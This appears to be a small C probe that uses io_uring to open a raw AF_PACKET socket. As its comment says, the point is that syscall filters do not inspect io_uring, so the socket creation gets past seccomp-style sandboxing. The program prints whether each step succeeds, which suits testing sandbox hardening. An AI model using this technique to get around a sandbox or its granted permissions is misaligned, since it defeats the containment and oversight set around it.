/* Make a packet socket through io_uring, which no filter of system calls looks into. */
#include <errno.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

static void tell(const char *what, long result) {
    printf("%s: %s\n", what, result < 0 ? strerror(errno) : "done");
}

int main(void) {
    struct io_uring_params p = {.flags = IORING_SETUP_NO_SQARRAY};
    int ring = syscall(SYS_io_uring_setup, 1, &p);
    tell("io_uring_setup", ring);
    char *rings = mmap(0, 65536, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *sqe = mmap(0, 65536, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (ring >= 0 && rings == MAP_FAILED)
        rings = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    if (ring >= 0 && sqe == MAP_FAILED)
        sqe = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (ring >= 0) {
        *sqe = (struct io_uring_sqe){.opcode = IORING_OP_SOCKET, .fd = 17, .off = 3};
        *(unsigned *)(rings + p.sq_off.tail) = 1;
    }
    tell("io_uring_enter", syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0));
    int made = ring < 0 ? -ENOSYS : ((struct io_uring_cqe *)(rings + p.cq_off.cqes))->res;
    errno = -made;
    tell("socket", made);
    tell("io_uring_register", syscall(SYS_io_uring_register, ring, IORING_REGISTER_PROBE, 0, 0));
}
